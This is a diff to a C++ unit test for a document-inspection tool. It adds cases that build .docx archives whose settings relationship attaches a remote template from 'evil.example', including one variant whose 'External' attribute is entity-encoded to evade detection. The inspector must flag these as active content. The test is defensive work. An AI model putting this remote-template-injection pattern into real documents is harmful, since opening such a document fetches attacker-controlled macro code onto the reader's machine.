@@ -94,6 +94,27 @@ TEST(Inspect, RefusesDocumentsThatRunSomething) {
     EXPECT_EQ(verdict(samples::zip({"photo.jpg"})), "unknown_media");
 }
 
+TEST(Inspect, RefusesDocumentsThatFetchSomethingWhenTheyAreOpened) {
+    auto with = [](const std::string& type, const std::string& mode, bool is_deflated) {
+        return samples::zip_of(
+            {{"[Content_Types].xml", "<x/>"},
+             {"word/document.xml", "<x/>"},
+             {"word/_rels/settings.xml.rels",
+              "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/" + type +
+                  "\" Target=\"https://evil.example/t.dotm\" " + mode + "/></Relationships>"}},
+            is_deflated);
+    };
+    for (bool is_deflated : {false, true}) {
+        EXPECT_EQ(verdict(with("attachedTemplate", "TargetMode=\"External\"", is_deflated)),
+                  "active_content");
+        EXPECT_EQ(verdict(with("attachedTemplate", "TargetMode='&#69;xternal'", is_deflated)),
+                  "active_content");
+        EXPECT_EQ(verdict(with("hyperlink", "TargetMode=\"External\"", is_deflated)),
+                  type_of(Media::docx));
+        EXPECT_EQ(verdict(with("styles", "", is_deflated)), type_of(Media::docx));
+    }
+}
+
 TEST(Inspect, TakesNoOtherKind) {
     using namespace std::literals;
     for (const auto& bytes :
